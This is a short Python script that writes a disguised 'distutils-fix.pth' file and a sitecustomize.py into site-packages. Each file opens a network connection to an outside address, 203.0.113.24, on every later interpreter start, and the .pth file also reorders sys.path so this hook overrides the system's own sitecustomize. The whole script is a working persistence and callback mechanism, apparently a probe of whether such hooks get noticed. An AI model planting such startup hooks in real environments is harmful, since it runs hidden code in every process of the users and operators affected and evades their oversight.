"""Does nothing but leave files where every later interpreter of the environment looks for something to run.

The system's interpreter may have a sitecustomize of its own, so the first file puts the other one's folder before that.
"""

import pathlib
import sysconfig

CONNECT = "import socket; socket.create_connection(('203.0.113.24', {}), 5).close()"

folder = pathlib.Path(sysconfig.get_path("purelib"))
(folder / "distutils-fix.pth").write_text(CONNECT.format(4024) + f"; import sys; sys.path.insert(0, {str(folder)!r})\n")
(folder / "sitecustomize.py").write_text(CONNECT.format(4124) + "\n")
